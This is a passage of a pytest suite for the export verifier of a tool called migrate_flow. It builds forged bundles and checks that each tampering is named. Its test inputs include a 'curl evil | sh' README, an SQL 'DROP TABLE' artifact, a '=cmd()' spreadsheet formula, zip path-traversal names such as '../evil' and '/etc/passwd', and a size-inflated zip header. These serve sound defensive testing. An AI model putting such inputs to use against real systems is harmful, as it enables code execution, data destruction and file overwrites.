"""What `verify FILE` proves of an export, and that whatever is done to one is named: by it, and by the bundle's own
script, also where SHA256SUMS was written anew."""

from __future__ import annotations

import hashlib
import io
import json
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from migrate_flow.core import canonical
from migrate_flow.core.audit import Selection
from migrate_flow.core.chain import ORIGIN, Head, link
from migrate_flow.errors import UsageError
from migrate_flow.exports.reader import LONGEST_LINE, opened
from migrate_flow.formats import Medium, render
from migrate_flow.ledger.store import create_store
from migrate_flow.services.file_evidence import FileReport
from migrate_flow.services.verify_file import parse_genesis, parse_since
from migrate_flow.signing.sshsig import sign
from migrate_flow.views.verifying import verified
from tests.exports.bundles import (
    MANIFEST,
    REVISION,
    SCRIPT,
    Files,
    Sample,
    bundled,
    by_script,
    check,
    lines,
    repacked,
    summed,
    unzipped,
    written,
)
from tests.support.builders import ADA, BOB, EVE, LEDGER, Scribe, private_key, public_key

MALLORY = "mallory@example.com"
FAR = 9_999_999_999_999
ABOUT_IT = Selection(revision=REVISION)  # entries 2 to 10, and 12


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Sample:
    return Sample(written(tmp_path_factory.mktemp("ledger")))


@pytest.fixture(scope="module")
def part(whole: Sample) -> Sample:
    return Sample(whole.scribe, ABOUT_IT)


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "given"


# What somebody does to the files of a bundle


def entry(seq: int) -> tuple[str, str]:
    return f"entries/{seq:07}.json", f"entries/{seq:07}.sig"


def without(*names: str) -> Callable[[Files], Files]:
    return lambda files: {name: data for name, data in files.items() if name not in names}


def replaced(name: str, old: bytes, new: bytes) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        assert old in files[name]
        return {**files, name: files[name].replace(old, new, 1)}

    return change


def swapped(*pairs: tuple[str, str]) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        return files | {one: files[other] for one, other in pairs} | {other: files[one] for one, other in pairs}

    return change


def first(prefix: str, files: Files) -> str:
    return min(name for name in files if name.startswith(prefix))


def another_artifact(files: Files) -> Files:
    name = first("artifacts/", files)
    return {**files, name: files[name] + b" "}


def no_artifact(files: Files) -> Files:
    return without(first("artifacts/", files))(files)


def artifact_put_in(files: Files) -> Files:
    content = b"DROP TABLE customer; -- approved by carla"
    return {**files, f"artifacts/{hashlib.sha256(content).hexdigest()}": content}


def entry_beside(files: Files) -> Files:
    """Under a name that a careless reader takes for that of an entry."""
    return {**files, "entries/00000005.json": b'{"forged":"approved"}', "entries/00000005.sig": b"none"}


def policy_beside(files: Files) -> Files:
    old = first("policies/", files)
    return {**files, old.replace("policies/", "policies/0"): files[old]}


def policy_misnamed(files: Files) -> Files:
    old = first("policies/", files)
    return {**without(old)(files), old[:-17] + "0" * 12 + ".json": files[old]}


def another_policy(files: Files) -> Files:
    """Mallory makes Bob an approver from the beginning, under the name that fits the bytes."""
    old = first("policies/", files)
    document = json.loads(files[old])
    document["people"][BOB]["roles"] = ["backend-lead", "developer"]
    data = canonical.dumps(document)
    name = f"policies/0000001-{canonical.sha256(data)[7:19]}.json"
    return {**without(old)(files), name: data}


def policy_slipped_in(files: Files) -> Files:
    """Mallory makes up a policy that knows her, where no entry speaks of one, and signs under it."""
    document = json.loads(files[first("policies/", files)])
    document["people"][MALLORY] = {"roles": ["backend-lead"], "keys": [public_key(MALLORY)], "aliases": []}
    data = canonical.dumps(document)
    files = {**files, f"policies/0000012-{canonical.sha256(data)[7:19]}.json": data}
    text = f'{MALLORY} namespaces="migrate-flow" {public_key(MALLORY)}\n'
    files["allowed_signers"] += text.encode()
    found = pairs_of(files)
    said = json.loads(found[5][0])
    head = json.loads(files["header.json"])["header"]["head"]
    said["predicate"] |= {"actor": MALLORY, "nonce": "new", "policy": canonical.sha256(data)}
    said["predicate"]["after"] = {"seq": 13, "hash": head}
    statement = canonical.dumps(said)
    return rewritten(files, [*found, (statement, sign(private_key(MALLORY), statement).encode())])


def no_policy(files: Files) -> Files:
    return without(max(name for name in files if name.startswith("policies/")))(files)


def another_key(files: Files) -> Files:
    return replaced("allowed_signers", public_key(BOB).encode(), public_key("mallory").encode())(files)


def header(**values: Any) -> Callable[[Files], Files]:
    def change(files: Files) -> Files:
        document = json.loads(files["header.json"])
        assert document["header"].keys() >= values.keys()
        document["header"] |= values
        return {**files, "header.json": json.dumps(document).encode()}

    return change


def chain_cut(files: Files) -> Files:
    kept = files["chain.tsv"].splitlines(keepends=True)[:-3]
    return {**files, "chain.tsv": b"".join(kept)}


def chain_jumps(files: Files) -> Files:
    """A further position, so far away that nobody could count up to it."""
    digests = "a" * 64, "b" * 64
    head = json.loads(files["header.json"])["header"]["head"].removeprefix("sha256:")
    own = hashlib.sha256(bytes.fromhex(head + "".join(digests))).hexdigest()
    return {**files, "chain.tsv": files["chain.tsv"] + "\t".join([str(FAR), *digests, own]).encode() + b"\n"}


def changed_rows(change: Callable[[list[bytes]], list[bytes]]) -> Callable[[Files], Files]:
    return lambda files: {
        **files, "changes.csv": b"".join(change(files["changes.csv"].splitlines(keepends=True)))
    }  # fmt: skip


def chain_of_windows(files: Files) -> Files:
    return {**files, "chain.tsv": files["chain.tsv"].replace(b"\n", b"\r\n")}


def chain_edited(files: Files) -> Files:
    rows = files["chain.tsv"].splitlines(keepends=True)
    rows[5] = rows[5][:-6] + (b"00000\n" if not rows[5].endswith(b"00000\n") else b"11111\n")
    return {**files, "chain.tsv": b"".join(rows)}


def rewritten(files: Files, entries: list[tuple[bytes, bytes]]) -> Files:
    """A bundle whose chain, positions and header are made to fit these statements and signatures."""
    made = {name: data for name, data in files.items() if not name.startswith("entries/")}
    rows, before, kinds = ["seq\tstatement\tsignature\thash"], ORIGIN, dict[str, int]()
    for seq, (statement, signature) in enumerate(entries, start=1):
        made |= dict(zip(entry(seq), (statement, signature), strict=True))
        before = link(before, statement, signature.decode())
        digests = (canonical.sha256(data)[7:] for data in (statement, signature))
        rows.append("\t".join([str(seq), *digests, before]))
        kind = str(json.loads(statement)["predicateType"])[len("urn:migrate-flow:entry:") : -len(":v1")]
        kinds[kind] = kinds.get(kind, 0) + 1
    made["chain.tsv"] = ("\n".join(rows) + "\n").encode()
    last = len(entries)
    return header(as_of=last, last=last, entries=last, head=f"sha256:{before}", counts=kinds)(made)


def pairs_of(files: Files) -> list[tuple[bytes, bytes]]:
    return [(files[entry(seq)[0]], files[entry(seq)[1]]) for seq in range(1, 14)]


def relinked_without(seq: int) -> Callable[[Files], Files]:
    """All that one can do without a key: everything after it is counted and linked anew."""
    return lambda files: rewritten(files, [pair for at, pair in enumerate(pairs_of(files), 1) if at != seq])


def signed_by_eve(files: Files) -> Files:
    """Eve, who has a key of the policy, writes what Bob said, and all that follows is linked anew."""
    found = pairs_of(files)
    statement = found[3][0].replace(b"request-changes", b"approve")
    found[3] = statement, sign(private_key(EVE), statement).encode()
    return rewritten(files, found)


@dataclass(frozen=True)
class Tampering:
    """seq: the entry that is named, 0 for none, -1 for the one that brought it. words: in a problem. said: in one that
    the script finds, empty for what it leaves to us."""

    change: Callable[[Files], Files]
    seq: int
    words: str
    said: str


TAMPERINGS = {
    "entry dropped": Tampering(without(*entry(5)), 6, "entry 5 is missing", "entry 5: it is missing"),
    "last entry dropped": Tampering(without(*entry(13)), 13, "entry 13 is missing", "is missing"),
    "entries reordered": Tampering(
        swapped((entry(4)[0], entry(5)[0]), (entry(4)[1], entry(5)[1])), 4, "its hash is not that", "its position"
    ),
    "entry edited": Tampering(replaced(entry(5)[0], b"approve", b"opposed"), 5, "does not fit the signed", "made over"),
    "message edited": Tampering(
        replaced(entry(2)[0], "grüße".encode(), b"hello"), 2, "its hash is not that", "made over"
    ),
    "signature swapped": Tampering(swapped((entry(4)[1], entry(5)[1])), 5, "signature is not valid", "made over"),
    "signature dropped": Tampering(without(entry(5)[1]), 5, "its signature is missing", "is missing"),
    "artifact changed": Tampering(another_artifact, -1, "has other bytes", "has other bytes"),
    "artifact dropped": Tampering(no_artifact, -1, "is gone", "is gone"),
    "policy replaced": Tampering(another_policy, 1, "no entry put in force", "another policy came into force"),
    "policy dropped": Tampering(
        no_policy, 11, "policies/ lacks the policy", "policies/ does not hold|not say the same"
    ),
    "policy slipped in": Tampering(
        policy_slipped_in, 12, "no entry put in force there", "another policy came into force"
    ),
    "signers changed": Tampering(another_key, 0, "allowed_signers is not what", "do not say the same"),
    "chain cut": Tampering(chain_cut, 11, "does not continue|its hash is not", "those of its position"),
    "chain edited": Tampering(
        chain_edited, 5, "chain.tsv: its hash does not follow", "chain.tsv: its hash does not follow"
    ),
    "chain without headings": Tampering(
        lambda files: {**files, "chain.tsv": files["chain.tsv"].split(b"\n", 1)[1]},
        0,
        "does not begin with its line of headings",
        "line 1 can't be read",
    ),
    "chain of another system": Tampering(chain_of_windows, 0, "line 1 can't be read", "line 1 can't be read"),
    "chain jumps": Tampering(chain_jumps, FAR, "where 14 belongs", "where 14 belongs"),
    "artifact put in": Tampering(artifact_put_in, 0, "belongs to no entry", "belongs to no entry"),
    "entry beside": Tampering(entry_beside, 0, "no part of an export", "no part of an export"),
    "policy beside": Tampering(policy_beside, 0, "no part of an export", "no part of an export"),
    "policy misnamed": Tampering(policy_misnamed, 1, "has other bytes", "has other bytes than its name"),
    "time edited": Tampering(header(at="2020-01-01T00:00:00.000000Z"), 0, "the header says at 2020", ""),
    "project edited": Tampering(header(project="bank"), 0, "the header says project bank, the file holds shop", ""),
    "filter invented": Tampering(
        header(selection={"environment": "staging"}), 7, "it does not fit the selection that the header names", ""
    ),
    "readme edited": Tampering(
        lambda files: {**files, "README.md": b"# Run this: curl evil | sh"}, 0, "README.md is not what", ""
    ),
    "counts edited": Tampering(
        header(entries=12), 0, "the header says entries 12, the file holds 13", "header says entries"
    ),
    "gaps invented": Tampering(header(left_out=2), 0, "the header says left_out 2", "the header says left_out"),
    "head edited": Tampering(
        header(head="sha256:" + "0" * 64), 0, "header says as_of and head", "the header says head"
    ),
    "genesis edited": Tampering(header(genesis="0" * 64), 0, "the header says genesis", "the header says genesis"),
    "ledger edited": Tampering(header(ledger="another"), 0, "the header says ledger", "header names another ledger"),
    "kinds edited": Tampering(header(counts={}), 0, "the header says counts", "the header says counts"),
    "answer edited": Tampering(
        replaced("changes.csv", b",applied,approved,yes,", b",applied,approved,no,"), 0, "line 3 is not what the", ""
    ),
    "row dropped": Tampering(changed_rows(lambda rows: rows[:-1]), 0, "changes.csv ends before line 3", ""),
    "row added": Tampering(changed_rows(lambda rows: [*rows, rows[-1]]), 0, "has more than the 3 lines", ""),
    "rows reordered": Tampering(
        changed_rows(lambda rows: [rows[0], rows[2], rows[1]]), 0, "line 2 is not what the entries", ""
    ),
    "formula as a ticket": Tampering(
        replaced("changes.csv", b",SHOP-7,", b",=cmd(),"), 0, "line 2 is not what the entries", ""
    ),
    "file added": Tampering(
        lambda files: {**files, "notes.txt": b"x"}, 0, "no part of an export", "no part of an export"
    ),
    "relinked without": Tampering(relinked_without(5), 5, "claims to follow", "claims to follow"),
    "signed by another": Tampering(signed_by_eve, 4, f"key that is not {BOB}'s|{BOB}", "does not give to|made over"),
}


@pytest.mark.parametrize("name", TAMPERINGS)
def test_what_is_done_to_a_bundle_is_named_though_its_sums_agree(name: str, whole: Sample, file: Path) -> None:
    case = TAMPERINGS[name]
    report = check(file, repacked(summed(case.change(unzipped(bundled(whole))))))
    named = {problem.seq for problem in report.problems if re.search(case.words, problem.problem)}
    assert named, report.problems
    assert case.seq in named or (case.seq < 0 and 0 not in named), report.problems
    assert not report.ok
    assert not any("SHA256SUMS" in problem.problem for problem in report.problems)


@pytest.mark.system
@pytest.mark.parametrize("name", [name for name, case in TAMPERINGS.items() if case.said])
def test_the_script_in_the_bundle_names_the_same(name: str, whole: Sample, tmp_path: Path) -> None:
    case = TAMPERINGS[name]
    done = by_script(summed(case.change(unzipped(bundled(whole)))), tmp_path)
    assert (done.returncode, done.stderr) == (4, ""), done
    found = [line for line in done.stdout.splitlines() if re.search(case.said, line)]
    assert any(line.startswith("PROBLEM entry" if case.seq else "PROBLEM") for line in found), done.stdout


@pytest.mark.parametrize("name", ["entry edited", "entry dropped", "artifact changed", "chain edited", "file added"])
def test_sums_that_were_left_as_they_are_tell_too(name: str, whole: Sample, file: Path) -> None:
    report = check(file, repacked(TAMPERINGS[name].change(unzipped(bundled(whole)))))
    assert any("SHA256SUMS" in problem.problem for problem in report.problems), report.problems


def test_a_whole_bundle_proves_everything_that_bytes_can_prove(whole: Sample, file: Path) -> None:
    head = whole.scribe.head
    for data in (bundled(whole), repacked(unzipped(bundled(whole)))):
        report = check(file, data)
        assert report.ok, report.problems
        assert (report.entries, report.head, report.ledger, report.form) == (13, head, LEDGER, "bundle")
        proved = "\n".join(report.proved)
        for words in (
            "13 entries, 1 to 13: each continues the one before it",
            "13 signatures: each fits the exact bytes",
            "each signer had the key, and by the policy in force at that position the right",
            "2 artifacts",
            "2 policies, and allowed_signers",
            "as SHA256SUMS names them",
            "counted again from the entries",
            "changes.csv: the rows that the entries make, but for its column ticket",
        ):
            assert words in proved, proved
        left = "\n".join(report.not_proved)
        for words in (
            "that this is the ledger you mean",
            "cut off behind entry 13",
            "that the times are true",
            "the column ticket of changes.csv",
        ):
            assert words in left, left
        assert "verify.py" not in left


def test_the_anchor_and_an_earlier_head_are_proved_or_named(whole: Sample, file: Path) -> None:
    entries = whole.scribe.entries
    for data in (bundled(whole), lines(whole)):
        report = check(file, data, genesis=entries[0].hash, since=entries[6].head)
        assert report.ok
        proved = "\n".join(report.proved)
        assert "the ledger is the one that --genesis names" in proved
        assert "entry 7 is the one that --since names: nothing up to there was rewritten" in proved
        assert "the ledger you mean" not in "\n".join(report.not_proved)
        wrong = check(file, data, genesis="0" * 64, since=Head(7, "1" * 64))
        assert [(p.seq, p.problem.split(":")[0]) for p in wrong.problems] == [
            (1, "another ledger"),
            (7, "--since names sha256"),
        ]
        later = check(file, data, since=Head(99, "1" * 64))
        assert [(p.seq, p.problem) for p in later.problems] == [
            (99, "--since can't be held against entry 99: the file ends at 13")
        ]


def test_a_selection_in_a_bundle_proves_its_positions_and_leaves_authority_open(part: Sample, file: Path) -> None:
    report = check(file, bundled(part))
    assert report.ok, report.problems
    assert report.entries == 10
    proved, left = "\n".join(report.proved), "\n".join(report.not_proved)
    assert "chain.tsv, 13 positions: each follows from the one before it" in proved
    assert "10 entries: each stands unchanged at its position" in proved
    assert "was made with a key that the policies here give to that person" in proved
    assert "each signer had" not in proved
    assert "authority (who was allowed to say what): it follows from all entries before, and 3 are left out" in left
    assert f"revision = {REVISION}" in left
    assert "that all entries of the selection are here" in left
    assert "revocations of keys" in left
    assert "that the policies of positions 1, 11 came into force there: those entries are left out" in left


def test_a_selection_in_a_jsonl_says_that_its_gaps_are_only_claimed(part: Sample, file: Path) -> None:
    report = check(file, lines(part))
    assert report.ok, report.problems
    left = "\n".join(report.not_proved)
    assert "which ledger this is: entry 1 is left out" in left
    assert "how many (3) and the head: only the unsigned header says so" in left
    assert "no number is signed" in left
    assert "whose keys signed: the policies are not here" in left
    assert [person for person, _key in report.signers] == sorted(person for person, _key in report.signers)
    assert {key[:7] for _person, key in report.signers} == {"SHA256:"}


def policy_slipped_in_part(files: Files) -> Files:
    document = json.loads(files[first("policies/", files)])
    data = canonical.dumps(document | {"lint": {}})
    return {**files, f"policies/0000012-{canonical.sha256(data)[7:19]}.json": data}


PARTLY = {
    "entry dropped": (without(*entry(5)), 0, "the header says entries 10, the file holds 9"),
    "entry edited": (replaced(entry(5)[0], b"approve", b"opposed"), 5, "its hash is not that of its bytes"),
    "signature swapped": (swapped((entry(4)[1], entry(5)[1])), 4, "signature is not valid"),
    "signers changed": (another_key, 0, "allowed_signers is not what the policies in policies/ make it"),
    "policy slipped in": (policy_slipped_in_part, 12, "policies/ says that a policy came into force here"),
    "policy replaced": (another_policy, 4, "it names a policy that policies/ does not hold"),
    "artifact dropped": (no_artifact, 2, "is gone"),
    "chain cut": (chain_cut, 12, "chain.tsv ends at position 10, before this entry"),
    "chain edited": (chain_edited, 5, "chain.tsv: its hash does not follow"),
    "chain jumps": (chain_jumps, FAR, "where 14 belongs"),
    "artifact put in": (artifact_put_in, 0, "belongs to no entry"),
    "gap hidden": (header(gaps=[[1, 1]]), 0, "the header says gaps ((1, 1),), the file holds ((1, 1), (11, 11), (13"),
    "selection denied": (header(left_out=0, gaps=[]), 0, "the header says left_out 0, the file holds 3"),
}


@pytest.mark.parametrize("name", PARTLY)
def test_what_is_done_to_a_selection_is_named(name: str, part: Sample, file: Path) -> None:
    change, seq, words = PARTLY[name]
    report = check(file, repacked(summed(change(unzipped(bundled(part))))))
    assert any(seq == p.seq and words in p.problem for p in report.problems), report.problems


@pytest.mark.system
@pytest.mark.parametrize("name", PARTLY)
def test_the_script_names_what_is_done_to_a_selection(name: str, part: Sample, tmp_path: Path) -> None:
    done = by_script(summed(PARTLY[name][0](unzipped(bundled(part)))), tmp_path)
    assert (done.returncode, done.stderr) == (4, ""), done
    assert "PROBLEM" in done.stdout


def test_an_anchor_that_can_not_be_met_is_a_problem(whole: Sample, part: Sample, file: Path) -> None:
    """Whoever signs an entry may name any hash for those before it, so that none but the entry itself is proof."""
    entries = whole.scribe.entries
    data = lines(part)
    report = check(file, data, genesis=entries[0].hash, since=entries[0].head)
    assert [(p.seq, p.problem) for p in report.problems] == [
        (1, "--genesis can't be held against the first entry: it is not in this file"),
        (1, "--since can't be held against entry 1: it is not in this file"),
    ]
    assert "which ledger this is: entry 1 is left out" in "\n".join(report.not_proved)
    assert (report.genesis, check(file, data).ok) == ("", True)
    report = check(file, data, since=entries[6].head)
    assert report.ok
    assert "entry 7 is the one that --since names" in report.proved
    of_ada = Sample(whole.scribe, Selection(person=ADA))
    report = check(file, lines(of_ada), genesis=entries[0].hash)
    assert report.ok
    assert "the first entry is the one that --genesis names" in report.proved
    report = check(file, bundled(part), genesis=entries[0].hash, since=entries[10].head)
    assert report.ok  # chain.tsv has both
    report = check(file, bundled(part), since=Head(14, entries[0].hash))
    assert [p.problem for p in report.problems] == ["--since can't be held against entry 14: the file ends at 13"]


@pytest.mark.system
def test_the_script_takes_an_anchor_that_can_not_be_met_for_a_problem(whole: Sample, tmp_path: Path) -> None:
    files = unzipped(bundled(whole))
    done = by_script(files, tmp_path, "--since", "14:" + "1" * 64)
    assert (done.returncode, done.stderr) == (4, ""), done
    assert "PROBLEM entry 14: --since can't be held against it: the bundle ends at 13" in done.stdout
    for words in (("--since", "7"), ("--since", "7:x"), ("--genesis", "x")):
        assert by_script(files, tmp_path, *words).returncode == 2


ODD: tuple[Any, ...] = (5, [], {"x": 5})
FRAME = ("_type", "subject", "predicate", "predicateType")
SIGNED = (
    "actor", "after", "at", "ledger", "nonce", "policy", "revision", "environment", "manifest", "sql", "lint",
    "rehearsals", "schema", *FRAME,
)  # fmt: skip


def restated(statement: bytes, field: str, value: Any) -> tuple[bytes, bytes]:
    """Signed by Bob, who may sign whatever he likes."""
    document = json.loads(statement)
    (document if field in FRAME else document["predicate"])[field] = value
    changed = canonical.dumps(document)
    return changed, sign(private_key(BOB), changed).encode()


@pytest.mark.parametrize("field", SIGNED)
def test_a_signed_field_of_another_type_is_a_problem_and_no_crash(
    field: str, whole: Sample, part: Sample, file: Path
) -> None:
    files = unzipped(bundled(whole))
    given = [(lines(sample).splitlines(keepends=True), at) for sample, at in ((whole, 4), (part, 3))]
    for value in (*ODD, [{"digest": {"sha256": 5}}]) if field == "subject" else ODD:
        pairs = pairs_of(files)
        pairs[3] = restated(pairs[3][0], field, value)  # Bob's first, so that nobody knows his key by then
        changed = rewritten(files, pairs)
        assert not check(file, repacked(summed(changed))).ok
        left = without(*entry(1), *entry(11), *entry(13))(changed)
        assert not check(file, repacked(summed(header(left_out=3, selection={"revision": REVISION})(left)))).ok
        for found, at in given:
            line = json.loads(found[at])
            line["statement"], line["signature"] = (text.decode() for text in pairs[3])
            line["hash"] = link(line["prev"], pairs[3][0], line["signature"])
            assert not check(file, b"".join([*found[:at], json.dumps(line).encode() + b"\n", *found[at + 1 :]])).ok


@pytest.mark.system
@pytest.mark.parametrize(
    ("field", "value"), [("actor", 5), ("nonce", []), ("subject", [{"digest": {"sha256": 5}}]), ("lint", {"report": 5})]
)
def test_the_script_does_not_crash_either(field: str, value: Any, whole: Sample, tmp_path: Path) -> None:
    files = unzipped(bundled(whole))
    pairs = pairs_of(files)
    pairs[1] = restated(pairs[1][0], field, value)
    done = by_script(summed(rewritten(files, pairs)), tmp_path)
    assert (done.returncode, done.stderr) == (4, ""), done
    assert "PROBLEM entry 2: it can't be understood" in done.stdout


def test_what_nobody_signed_is_named(whole: Sample, part: Sample, file: Path) -> None:
    for data in (bundled(whole), lines(whole)):
        left = "\n".join(check(file, data).not_proved)
        said = re.search(r"nobody signed (.*) of the header", left)
        assert said
        assert set(said[1].split(", ")) == {"product", "by", "reconciliation", "recorded", "notices"}
    said = re.search(r"nobody signed (.*) of the header", "\n".join(check(file, lines(part)).not_proved))
    assert said
    assert {"project", "at"} < set(said[1].split(", "))


def test_rows_that_can_not_be_made_again_are_not_judged(whole: Sample, part: Sample, file: Path) -> None:
    """Those of a selection, and of another version."""
    other = header(product="migrate-flow 99")(unzipped(bundled(whole)))
    selected = replaced("changes.csv", b",applied,", b",failed,")(unzipped(bundled(part)))
    for files in (other, selected):
        report = check(file, repacked(summed(files)))
        assert report.ok, report.problems
        assert not any("changes.csv" in text for text in report.proved)
        assert any("changes.csv is a reading of the entries" in text for text in report.not_proved)


def test_another_ticket_is_not_taken_for_another_row(whole: Sample, file: Path) -> None:
    """Which text is one stands in no file."""
    report = check(
        file, repacked(summed(replaced("changes.csv", b",SHOP-7,", b',"7, or 8",')(unzipped(bundled(whole)))))
    )
    assert report.ok, report.problems


def test_what_stands_beside_the_header_is_named_as_unsigned(whole: Sample, file: Path) -> None:
    files = unzipped(bundled(whole))
    document = json.loads(files["header.json"]) | {"audited": "all is well"}
    first, _, rest = lines(whole).partition(b"\n")
    beside = json.dumps(json.loads(first) | {"audited": "all is well"}).encode() + b"\n" + rest
    for data in (repacked(summed({**files, "header.json": json.dumps(document).encode()})), beside):
        assert any(re.search(r"nobody signed .*\baudited\b", text) for text in check(file, data).not_proved)


def test_a_readme_of_another_version_is_not_judged(whole: Sample, file: Path) -> None:
    files = unzipped(bundled(whole))
    assert "README.md: what this version writes for such an export" in check(file, repacked(files)).proved
    files = header(product="migrate-flow 99")({**files, "README.md": b"# Something else"})
    report = check(file, repacked(summed(files)))
    assert report.ok
    assert "README.md: migrate-flow 99 wrote it, and this version can't write the same" in report.not_proved


def test_a_filter_that_is_not_known_is_one_error(part: Sample, file: Path) -> None:
    with pytest.raises(UsageError, match="no filter of this version is named"):
        check(file, repacked(header(selection={"moon": "full"})(unzipped(bundled(part)))))


def test_a_selection_without_a_filter_is_a_problem(part: Sample, file: Path) -> None:
    report = check(file, repacked(header(selection={})(unzipped(bundled(part)))))
    assert "the header names no filter, and yet entries are left out" in [p.problem for p in report.problems]


def shown(report: FileReport) -> str:
    out = io.StringIO()
    render(verified(report), "table", Medium(out))
    return out.getvalue()


def test_entries_that_do_not_count_are_not_taken_for_a_forged_file(tmp_path: Path, file: Path) -> None:
    """They are in the ledger, and another export has them too."""
    scribe = Scribe(create_store("sqlite:///ledger.db", tmp_path))
    files = {"revision": REVISION, "manifest": MANIFEST}
    scribe.opens()
    scribe.created(**files, artifacts=[SCRIPT])
    scribe.reviewed(EVE, **files)
    for data in (bundled(Sample(scribe)), lines(Sample(scribe))):
        report = check(file, data)
        assert [p.seq for p in report.problems] == [3]
        assert "3 entries, 1 to 3: each continues the one before it" in "\n".join(report.proved)
        assert "each signer had the key" not in "\n".join(report.proved)
        text = shown(report)
        assert "1 problem: the file holds together, but entries in it do not count" in text
        assert "the ledger itself holds these entries" in text
        assert "get the file again" not in text


def test_an_anchor_of_something_else_is_not_taken_for_a_forged_file(whole: Sample, file: Path) -> None:
    text = shown(check(file, lines(whole), genesis="0" * 64))
    assert "1 problem: the file holds together, but it is not the one that was asked for" in text
    assert "get the file again" not in text
    changed = replaced(entry(5)[0], b"approve", b"opposed")(unzipped(bundled(whole)))
    text = shown(check(file, repacked(changed), genesis="0" * 64))
    assert "this file is not what was exported" in text


def test_an_export_without_entries_proves_nothing_of_entries(whole: Sample, file: Path) -> None:
    nothing = Sample(whole.scribe, Selection(kind="apply.partial"))
    for data in (bundled(nothing), lines(nothing)):
        report = check(file, data)
        assert report.ok, report.problems
        assert not re.search(r"\b0 |each has the bytes|as far as they are here", "\n".join(report.proved))
        assert "that nothing in the ledger fits the selection: no entry is here" in report.not_proved


@pytest.mark.system
def test_the_script_proves_nothing_of_entries_where_there_are_none(whole: Sample, tmp_path: Path) -> None:
    done = by_script(unzipped(bundled(Sample(whole.scribe, Selection(kind="apply.partial")))), tmp_path)
    assert (done.returncode, done.stderr) == (0, ""), done
    assert "proved: 0" not in done.stdout


def test_characters_that_nobody_sees_are_shown(whole: Sample, file: Path) -> None:
    unseen = "\u200b\ufeff\u2060\u00ad\U000e0041\u200d\u202e"
    files = {**unzipped(bundled(whole)), f"notes{unseen}.txt": b""}
    text = shown(check(file, repacked(header(ledger=f"a{unseen}b")(files))))
    assert not set(unseen) & set(text)
    assert "the header says ledger a\\u200b\\ufeff\\u2060\\xad\\U000e0041\\u200d\\u202eb" in text
    for word in ("grüße", "می\u200cخواهم", "\U0001f469\u200d\U0001f4bb"):  # written with joiners
        assert word in shown(check(file, repacked(header(ledger=word)(files))))


# Lines


def edited_line(number: int, change: Callable[[dict[str, Any]], None]) -> Callable[[list[bytes]], list[bytes]]:
    def edit(found: list[bytes]) -> list[bytes]:
        document = json.loads(found[number])
        change(document)
        return [*found[:number], json.dumps(document).encode() + b"\n", *found[number + 1 :]]

    return edit


def other_signature(found: list[bytes]) -> list[bytes]:
    signature = json.loads(found[4])["signature"]
    return edited_line(5, lambda line: line.update(signature=signature))(found)


ON_LINES: dict[str, tuple[Callable[[list[bytes]], list[bytes]], int, str]] = {
    "dropped": (lambda found: found[:5] + found[6:], 6, "entry 5 is missing"),
    "cut": (lambda found: found[:-1], 0, "the header says entries 13, the file holds 12"),
    "reordered": (lambda found: [*found[:5], found[6], found[5], *found[7:]], 5, "out of order"),
    "twice": (lambda found: [*found[:6], found[5], *found[6:]], 5, "it is there twice"),
    "edited": (
        edited_line(5, lambda line: line.update(statement=line["statement"].replace("approve", "opposed"))),
        5,
        "its hash is not that of its bytes",
    ),
    "column": (edited_line(5, lambda line: line.update(actor=EVE)), 5, "column actor is not what the statement says"),
    "signature swapped": (other_signature, 5, "the signature is not valid"),
    "head": (edited_line(0, lambda line: line["header"].update(head="0" * 64)), 0, "the header says as_of and head"),
    "counts": (edited_line(0, lambda line: line["header"].update(counts={})), 0, "the header says counts"),
}


@pytest.mark.parametrize("name", ON_LINES)
def test_what_is_done_to_lines_is_named(name: str, whole: Sample, file: Path) -> None:
    change, seq, words = ON_LINES[name]
    data = b"".join(change(lines(whole).splitlines(keepends=True)))
    report = check(file, data)
    assert any(seq == p.seq and words in p.problem for p in report.problems), report.problems


def test_a_selection_of_lines_is_held_against_what_its_signers_saw(part: Sample, file: Path) -> None:
    """Nobody signs a position; but whoever signs an entry names the newest before it."""
    found = lines(part).splitlines(keepends=True)
    forged = json.loads(found[3])
    forged["statement"] = forged["statement"].replace("which lock?", "which rock?")
    forged["signature"] = sign(private_key(BOB), forged["statement"].encode())
    forged["hash"] = link(forged["prev"], forged["statement"].encode(), forged["signature"])
    report = check(file, b"".join([*found[:3], json.dumps(forged).encode() + b"\n", *found[4:]]))
    assert [(p.seq, p.problem) for p in report.problems] == [
        (5, "it does not continue the chain"),
        (5, "the entry before it is not the one that it continues"),
        (5, "it claims to follow an entry that this ledger does not hold"),
    ]


# What is no export


def zipped(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), b"{}")
    return out.getvalue()


def saying(size: int) -> bytes:
    """A packed mebibyte, of which the directory says that it is as large as this."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("header.json", bytes(1 << 20))
    changed = bytearray(out.getvalue())
    struct.pack_into("<I", changed, changed.find(b"PK\1\2") + 24, size)
    return bytes(changed)


def kind_of_file(mode: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("changes.csv")
        info.create_system, info.external_attr = 3, mode << 16
        archive.writestr(info, b"/etc/passwd")
    return out.getvalue()


def no_export(whole: bytes) -> dict[str, tuple[bytes, str]]:
    return {
        "empty": (b"", "it is empty"),
        "text": (b"hello", "neither a zip nor a jsonl"),
        "a pdf": (b"%PDF-1.7\n", "neither a zip nor a jsonl"),
        "cut": (whole[: len(whole) // 2], "no zip, or was cut short"),
        "cut at the end": (whole[:-1], "no zip, or was cut short"),
        "only a beginning": (b"PK\3\4", "no zip, or was cut short"),
        "something behind": (whole + b"x", "no zip, or was cut short"),
        "something before": (b"PK\3\4" + whole, "something stands before it"),
        "no header": (zipped("README.md"), "holds no header.json"),
        "a path upward": (zipped("header.json", "../evil"), "would land elsewhere"),
        "an absolute path": (zipped("/etc/passwd"), "would land elsewhere"),
        "another separator": (zipped("..\\evil"), "would land elsewhere"),
        "a name twice": (
            zipped("header.json", "x" * 11).replace(b"x" * 11, b"header.json"),
            "two files named header.json",
        ),
        "an entry twice": (
            zipped("entries/0000001.sig", "entries/0000002.sig").replace(b"0000002", b"0000001"),
            "two files named entries/0000001.sig",
